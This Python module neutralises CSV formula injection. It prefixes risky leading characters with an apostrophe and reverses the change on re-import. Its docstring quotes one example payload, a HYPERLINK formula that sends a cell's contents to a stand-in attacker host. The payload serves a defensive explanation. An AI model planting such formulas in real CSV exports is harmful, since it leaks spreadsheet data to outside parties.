"""CSV cells that a spreadsheet would run as formulas (OWASP "CSV injection"), and back.

A title such as `=HYPERLINK("http://evil.example/?x="&A1,"Click")` must not reach a spreadsheet
as a formula. Every CSV the site writes passes each cell through `neutralise`: a cell starting
with `=`, `+`, `-`, `@`, tab or carriage return gets a leading apostrophe (OWASP's rule), which
spreadsheets show as text. The importer applies `restore` to every CSV cell, the exact inverse,
so that a download re-imports unchanged. To keep it exact, a cell that already starts with
apostrophes followed by one of those characters gets one more (and loses one on the way back).
"""

from __future__ import annotations

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NEEDS_QUOTE = re.compile(r"'*[=+\-@\t\r]")
_QUOTED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(value):
    """`value` as a CSV cell no spreadsheet runs: text that would start a formula gets a `'`."""
    if isinstance(value, str) and _NEEDS_QUOTE.match(value):
        return "'" + value
    return value


def restore(value: str) -> str:
    """The inverse of `neutralise`, for cells read from a CSV file."""
    if _QUOTED.match(value):
        return value[1:]
    return value


def neutralise_row(row: dict) -> dict:
    return {key: neutralise(value) for key, value in row.items()}
